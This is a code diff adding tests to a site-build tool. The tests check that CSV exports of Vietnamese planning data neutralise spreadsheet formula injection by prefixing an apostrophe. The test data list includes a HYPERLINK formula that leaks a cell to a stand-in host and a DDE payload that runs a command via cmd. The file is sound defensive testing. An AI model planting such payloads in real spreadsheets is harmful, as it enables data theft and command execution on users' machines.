@@ -343,3 +343,43 @@ def _validate(instance, schema: dict, root: dict, path: str) -> list[str]:
         if "maximum" in schema and instance > schema["maximum"]:
             errors.append(f"{path}: {instance} > {schema['maximum']}")
     return errors
+
+
+# --- formula injection (issue 17, item 2) -----------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"y")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)"]
+
+
+def test_csv_cells_that_start_like_a_formula_are_text(tmp_path):
+    """A task or target whose text starts with = + - @ is written with a leading ' (OWASP), so a
+    spreadsheet shows it as text; plans.json keeps it exactly; the data page says so."""
+    import shutil
+
+    content = tmp_path / "content"
+    shutil.copytree(Path(__file__).parent / "fixtures" / "checker" / "clean", content)
+    appendix = content / "demo" / "kh-demo-2026" / "appendix-01.yaml"
+    text = appendix.read_text(encoding="utf-8")
+    text = text.replace("content: Rà soát văn bản quy phạm pháp luật.", f"content: '{FORMULAS[0].replace(chr(39), chr(39) * 2)}'")
+    text = text.replace("content: Kiểm soát thủ tục hành chính.", f"content: \"{FORMULAS[1]}\"")
+    text = text.replace("deliverables: [Kế hoạch kiểm soát.]", f"deliverables: [\"{FORMULAS[2]}\"]")
+    appendix.write_text(text, encoding="utf-8")
+    (content / "demo" / "kh-demo-2026" / "targets.yaml").write_text(
+        f"targets:\n  - name: \"{FORMULAS[3]}\"\n    value_text: \"{FORMULAS[4]}\"\n    period: \"2026\"\n    lead: []\n",
+        encoding="utf-8")
+    site = tmp_path / "site"
+    proc = run_build("--only", "data", "--content", str(content), "--site", str(site), "--as-of", AS_OF)
+    assert proc.returncode == 0, proc.stderr
+    task_rows, target_rows = _csv(site / "data" / "tasks.csv"), _csv(site / "data" / "targets.csv")
+    assert [r["content"] for r in task_rows] == ["'" + FORMULAS[0], "'" + FORMULAS[1]]
+    assert task_rows[1]["deliverables"] == "'" + FORMULAS[2]
+    assert (target_rows[0]["name"], target_rows[0]["value_text"]) == ("'" + FORMULAS[3], "'" + FORMULAS[4])
+    every_cell = [v for r in [*task_rows, *target_rows] for v in r.values()]
+    assert not [v for v in every_cell if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    plans = json.loads((site / "data" / "plans.json").read_text(encoding="utf-8"))
+    tasks_json = plans["documents"][0]["tasks"]
+    assert [t["content"] for t in tasks_json] == FORMULAS[:2]
+
+
+def test_the_data_page_says_how_csv_cells_are_neutralised(built_site):
+    page = (built_site / "theo-doi" / "index.html").read_text(encoding="utf-8")
+    assert "không chạy nó như công thức" in page and "changed_after_signing" in page
